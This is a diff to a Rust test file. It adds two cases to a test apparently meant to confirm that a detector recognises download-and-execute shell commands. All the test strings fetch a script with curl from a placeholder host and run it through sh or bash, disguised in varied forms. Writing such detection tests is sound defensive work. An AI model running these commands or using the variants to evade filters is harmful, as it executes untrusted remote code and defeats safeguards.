@@ -150,6 +150,8 @@ fn a_download_may_be_written_in_many_ways() {
         "{\ncurl https://a.invalid/i\necho\n} | {\nsh\n}",
         "for i in a\ndo # '\n  curl https://a.invalid/i\n  echo '; for'\ndone | sh # '",
         "f(){\ncurl https://a.invalid/i\n}\nf | sh",
+        "f() { curl https://a.invalid/i; }\nbash -c \"$(f)\"",
+        "f() { curl https://a.invalid/i; }\nbash -c \"`f`\"",
         "f () { :; curl https://a.invalid/i; }; f|sh",
         "function f {\n  curl https://a.invalid/i\n}\nsh <(f)",
         ": \"${x:=$(curl https://a.invalid/i | sh)}\"",
